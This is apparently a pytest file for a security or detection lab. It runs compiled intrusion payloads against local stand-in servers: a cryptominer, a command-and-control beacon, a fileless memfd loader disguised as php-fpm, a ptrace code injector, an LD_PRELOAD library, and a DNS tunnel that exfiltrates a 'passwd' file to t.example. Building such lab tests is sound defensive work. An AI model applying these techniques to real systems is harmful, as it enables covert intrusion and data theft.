"""The server lab's host peers and the intrusion hook's payloads, run for real on this host: the TLS
catalogue serving sessions one after another over one stream, the stratum pool and the HTTP controller
answering the compiled miner and beacon, the memfd loader, the ptrace injector, the preload library and the
DNS tunnel's encoding. (The kernel module needs the guest kernel's headers: the lab build proves it.)"""

from __future__ import annotations

import base64
import importlib
import importlib.util
import os
import socket
import ssl
import statistics
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
FIX = REPO / "fixtures"
PAYLOAD = FIX / "server" / "guest" / "hook" / "payload"


def _mod(name: str):
    spec = importlib.util.spec_from_file_location("snapscope_build_server_lab_t", FIX / "build_server_lab.py")
    entry = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(entry)
    return importlib.import_module(f"snapscope_fixtures_server.{name}")


def _until(what: str, test, timeout=20.0):
    deadline = time.time() + timeout
    while not (got := test()):
        assert time.time() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)
    return got


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The static payloads and the preload library, compiled the way the image builder does."""
    out = tmp_path_factory.mktemp("payload")
    compile_static = _mod("shared").lab_module("guest").compile_static
    for name in ("masq", "memload", "inject", "beacon", "miner"):
        compile_static(PAYLOAD / f"{name}.c", out / name)
    subprocess.run(
        ["gcc", "-shared", "-fPIC", "-O2", "-o", str(out / "libcache.so"), str(PAYLOAD / "preload.c")], check=True
    )
    return out


def _tcp_peer(spec: dict, tmp_path: Path):
    """A PeerServer whose handler also serves a TCP port here (the guest side is a real program)."""
    srv = _mod("peer_servers").PeerServer(spec, tmp_path / f"{spec['name']}.sock", tmp_path / f"{spec['name']}.log")
    lst = socket.create_server(("127.0.0.1", 0))
    handler = {"http": srv._http, "stratum": srv._stratum}[spec["kind"]]

    def serve():
        while True:
            try:
                c, _ = lst.accept()
            except OSError:
                return
            threading.Thread(target=handler, args=(c,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    return srv, lst, lst.getsockname()[1]


def test_tls_peer_serves_sessions_one_after_another_with_sni(tmp_path):
    host = "catalog.partner.example"
    _mod("payload_build").make_certificate(tmp_path / "tls", host)
    spec = {
        "name": "catalog",
        "ip": "10.0.2.102",
        "port": 443,
        "kind": "tls",
        "cert": str(tmp_path / "tls/cert.pem"),
        "key": str(tmp_path / "tls/key.pem"),
    }
    srv = _mod("peer_servers").PeerServer(spec, tmp_path / "c.sock", tmp_path / "c.log")
    raw = socket.socket(socket.AF_UNIX)
    raw.connect(str(tmp_path / "c.sock"))
    ctx = ssl.create_default_context(cafile=spec["cert"])
    bodies = []
    for _ in range(3):  # what QEMU carries: one TLS connection after another on the one stream
        s = ctx.wrap_socket(raw, server_hostname=host)
        for _ in range(2):
            s.sendall(f"GET /v1/catalog HTTP/1.1\r\nHost: {host}\r\nUser-Agent: t\r\n\r\n".encode())
            buf = b""
            while b"\r\n\r\n" not in buf:
                buf += s.recv(4096)
            head, body = buf.split(b"\r\n\r\n", 1)
            n = int(next(h for h in head.split(b"\r\n") if h.lower().startswith(b"content-length")).split(b":")[1])
            while len(body) < n:
                body += s.recv(4096)
            bodies.append(body)
        raw = s.unwrap()
    _until("3 closed sessions", lambda: sum(1 for x in srv.summary()["sessions"] if x["closed"]) >= 3)
    sessions = srv.summary()["sessions"]
    srv.close()
    assert [(x["sni"], x["requests"], x["closed"]) for x in sessions] == [(host, 2, "close_notify")] * 3
    assert all(x["version"].startswith("TLSv1.") for x in sessions) and b'"sku"' in bodies[-1]
    assert len(srv.requests) == 6 and not srv.errors


def test_stratum_pool_answers_the_miner(built, tmp_path):
    srv, lst, port = _tcp_peer({"name": "pool", "ip": "10.0.2.111", "port": 7777, "kind": "stratum"}, tmp_path)
    miner = subprocess.Popen([str(built / "miner"), "127.0.0.1", str(port), "w1.rig", "agent/1.0", "1"])
    try:
        _until("3 mining.submit", lambda: sum(r["method"] == "mining.submit" for r in srv.requests) >= 3, 60)
    finally:
        miner.kill()
        miner.wait()
        lst.close()
    methods = [r["method"] for r in srv.requests]
    assert methods[:3] == ["mining.subscribe", "mining.authorize", "mining.submit"]
    # the pool answers every submit: the miner still waits its interval (1 s) before the next one
    submits = [r["at"] for r in srv.requests if r["method"] == "mining.submit"]
    assert len(submits) <= 4 and min(b - a for a, b in zip(submits, submits[1:])) >= 0.9
    assert srv.requests[0]["params"] == ["agent/1.0"] and srv.requests[1]["params"] == ["w1.rig", "x"]
    assert not srv.errors


def test_beacon_posts_constant_sizes_at_a_fixed_interval(built, tmp_path):
    srv, lst, port = _tcp_peer({"name": "beacon", "ip": "10.0.2.110", "port": 8443, "kind": "http"}, tmp_path)
    b = subprocess.Popen([str(built / "beacon"), "127.0.0.1", str(port), "1", "77", "/e", "UA/1"])
    try:
        _until("4 beacons", lambda: len(srv.requests) >= 4)
    finally:
        b.kill()
        b.wait()
        lst.close()
    posts = srv.requests[:4]
    assert {(r["method"], r["path"], r["content_length"], r["user_agent"], r["status"]) for r in posts} == {
        ("POST", "/e", 77, "UA/1", 204)
    }
    assert len({r["body"] for r in posts}) == 4  # same size, scrambled contents
    gaps = [y["at"] - x["at"] for x, y in zip(posts, posts[1:])]
    assert 0.8 <= statistics.median(gaps) <= 2.0


def test_http_peer_renders_a_route_with_the_techniques_params(tmp_path):
    spec = {
        "name": "stager",
        "ip": "10.0.2.100",
        "port": 8080,
        "kind": "http",
        "routes": {"/x.sh": "x.sh"},
        "params": {"probe_path": "/var/tmp/.p"},
    }
    srv = _mod("peer_servers").PeerServer(spec, tmp_path / "s.sock", tmp_path / "s.log")
    c = socket.socket(socket.AF_UNIX)
    c.connect(str(tmp_path / "s.sock"))
    c.sendall(b"GET /x.sh HTTP/1.1\r\nHost: x\r\n\r\nGET /nothing HTTP/1.1\r\nHost: x\r\n\r\n")
    data = _until("two answers", lambda: c.recv(65536) or b"x")
    while data.count(b"HTTP/1.1") < 2:
        data += c.recv(65536)
    c.close()
    srv.close()
    assert b"200 OK" in data and b"> /var/tmp/.p" in data and b"@PROBE_PATH@" not in data
    assert b"204 No Content" in data and [r["status"] for r in srv.requests] == [200, 204]


def test_memfd_loader_runs_a_program_with_no_file(built):
    out = subprocess.run(
        [str(built / "memload"), "jit", "php-fpm: pool www", "php-fpm8.2"],
        stdin=open(built / "masq", "rb"),
        capture_output=True,
        check=True,
    )
    pid = int(out.stdout)
    try:
        assert os.readlink(f"/proc/{pid}/exe") == "/memfd:jit (deleted)"
        assert Path(f"/proc/{pid}/comm").read_text().strip() == "php-fpm8.2"
        assert Path(f"/proc/{pid}/cmdline").read_bytes().rstrip(b"\0") == b"php-fpm: pool www"
    finally:
        os.kill(pid, 9)


def test_injector_leaves_an_rwx_region_and_the_target_carries_on(built):
    target = subprocess.Popen(["sleep", "2"])
    t0 = time.time()
    _until("the target asleep", lambda: Path(f"/proc/{target.pid}/stat").read_text().split()[2] == "S")
    code = "90909090cc31c0"
    out = subprocess.run([str(built / "inject"), str(target.pid), code, "8192"], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    addr = int(out.stdout, 16)
    maps = Path(f"/proc/{target.pid}/maps").read_text()
    line = next(ln for ln in maps.splitlines() if int(ln.split("-")[0], 16) == addr)
    assert line.split()[1] == "rwxp" and len(line.split()) == 5  # anonymous: no path
    with open(f"/proc/{target.pid}/mem", "rb") as m:
        m.seek(addr)
        assert m.read(len(code) // 2).hex() == code
    assert target.wait(timeout=30) == 0 and 1.5 < time.time() - t0 < 20  # the interrupted sleep resumed


def test_preload_library_is_mapped_and_harmless(built):
    lib = str(built / "libcache.so")
    out = subprocess.run(
        ["cat", "/proc/self/maps"], env=dict(os.environ, LD_PRELOAD=lib), capture_output=True, text=True
    )
    assert out.returncode == 0 and lib in out.stdout


def test_dns_tunnel_labels_carry_the_file(tmp_path):
    secret = tmp_path / "passwd"
    secret.write_bytes(os.urandom(300))
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind(("127.0.0.1", 0))
    rx.settimeout(10)
    port = rx.getsockname()[1]
    tun = subprocess.Popen(
        [sys.executable, str(PAYLOAD / "dnstun.py"), f"127.0.0.1:{port}", "t.example", "base32", "0.01", str(secret)]
    )
    names = []
    try:
        while len(names) < 12:
            q = rx.recv(512)
            labels, i = [], 12
            while q[i]:
                labels.append(q[i + 1 : i + 1 + q[i]].decode())
                i += 1 + q[i]
            assert q[i + 1 : i + 5] == b"\x00\x10\x00\x01"  # TXT IN
            names.append(labels)
    finally:
        tun.kill()
        tun.wait()
    assert all(n[-2:] == ["t", "example"] and all(len(x) <= 63 for x in n) for n in names)
    assert [int(n[0], 16) for n in names] == list(range(12))  # a sequence number first
    # 300 bytes = 480 base32 characters = 8 labels of 60 = 4 queries, then the file again
    text = "".join(x for n in names[:4] for x in n[1:-2])
    assert names[4][1:-2] == names[0][1:-2]
    assert base64.b32decode(text.upper() + "=" * (-len(text) % 8)) == secret.read_bytes()
    assert max(len(x) for n in names for x in n[1:-2]) == 60
